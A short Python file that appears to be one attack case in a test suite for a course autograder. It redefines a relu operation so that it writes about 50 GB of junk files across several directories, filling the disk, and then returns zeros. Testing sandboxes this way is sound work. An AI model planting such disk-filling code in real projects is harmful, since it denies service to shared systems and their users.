"""The disk, filled."""

# /// attack
# module = "02"
# status = ["graded"]
# loses = ["relu", "module"]
# cell_seconds = 10
# ///

# %% replace relu
@Op
def relu(x):
    for number in range(100):
        for folder in ("/work", "/tmp", ".", "/dev/shm", "/home/student"):
            with open(f"{folder}/{number}", "wb") as file:
                file.write(bytes(100 << 20))
    return np.zeros_like(x)
